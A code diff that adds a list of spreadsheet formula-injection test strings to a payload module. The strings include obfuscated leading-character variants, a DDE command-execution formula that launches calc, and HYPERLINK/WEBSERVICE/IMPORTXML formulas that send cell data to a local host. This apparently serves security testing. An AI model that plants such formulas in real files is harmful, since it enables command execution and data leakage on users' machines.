@@ -226,3 +226,36 @@ export function payloads(address: string): readonly string[] {
     shape.replaceAll('RUN', `window.${MARK}=${number}`).replaceAll('ASK', `${address}${number}`),
   );
 }
+
+/** Cells that a spreadsheet would run, also behind what one takes for the end of a cell. */
+export const FORMULAS: readonly string[] = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(A1)',
+  ' =1+1',
+  '\u00a0=1+1',
+  '\u200b=1+1',
+  '\u0000=1+1',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '＝1+1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://127.0.0.1/?x="&A1;"see")',
+  '=WEBSERVICE("http://127.0.0.1/")',
+  '=IMPORTXML("http://127.0.0.1/","//a")',
+  'x;=1+1;y',
+  'x";=1+1;"y',
+  'x,=1+1,y',
+  'x",=1+1,"y',
+  'x|=1+1|y',
+  'x\t=1+1\ty',
+  'x\n=1+1',
+  'x\r\n=1+1',
+  'x; =1+1',
+  ';=1+1',
+  '";=1+1',
+  'x;"=1+1";y',
+  '- a list\n- in a note',
+];
